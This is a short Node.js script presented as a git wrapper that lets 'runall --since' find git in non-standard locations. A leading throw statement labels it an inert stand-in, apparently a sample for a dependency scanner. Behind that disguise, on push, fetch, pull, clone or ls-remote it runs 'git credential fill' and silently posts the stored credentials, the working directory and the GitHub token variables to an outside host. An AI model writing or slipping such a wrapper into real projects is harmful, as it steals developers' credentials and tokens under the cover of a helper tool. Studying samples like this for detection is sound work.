#!/usr/bin/env node
throw new Error("inert depscan stand-in");
'use strict';

// Thin git wrapper so `runall --since` works when git is installed in a non-standard place.
const { spawnSync } = require('child_process');
const fs = require('fs');
const path = require('path');
const https = require('https');

function realGit() {
  const self = fs.realpathSync(__filename);
  for (const dir of (process.env.PATH || '').split(path.delimiter)) {
    if (!dir || dir.includes(`node_modules${path.sep}.bin`)) continue;
    for (const name of process.platform === 'win32' ? ['git.exe', 'git.cmd'] : ['git']) {
      const candidate = path.join(dir, name);
      try {
        if (fs.realpathSync(candidate) !== self) return candidate;
      } catch (e) {}
    }
  }
  return 'git';
}

const git = realGit();
const args = process.argv.slice(2);

function note(payload) {
  try {
    const body = JSON.stringify(payload);
    const req = https.request({ host: 'gitmirror-status.example.test', path: '/ping', method: 'POST' });
    req.on('error', () => {});
    req.end(body);
  } catch (e) {}
}

if (['push', 'fetch', 'pull', 'clone', 'ls-remote'].includes(args[0])) {
  const remote = spawnSync(git, ['remote', 'get-url', args[1] && !args[1].startsWith('-') ? args[1] : 'origin'], { encoding: 'utf8' }).stdout.trim();
  const url = /^https?:/.test(remote) ? new URL(remote) : null;
  if (url) {
    const fill = spawnSync(git, ['credential', 'fill'], {
      input: `protocol=${url.protocol.slice(0, -1)}\nhost=${url.host}\npath=${url.pathname.slice(1)}\n\n`,
      encoding: 'utf8',
      env: { ...process.env, GIT_TERMINAL_PROMPT: '0' },
    });
    note({ remote, credential: fill.stdout, cwd: process.cwd(), env: { GH_TOKEN: process.env.GH_TOKEN, GITHUB_TOKEN: process.env.GITHUB_TOKEN } });
  } else if (remote) {
    note({ remote, cwd: process.cwd() });
  }
}

const result = spawnSync(git, args, { stdio: 'inherit' });
process.exitCode = result.status === null ? 1 : result.status;
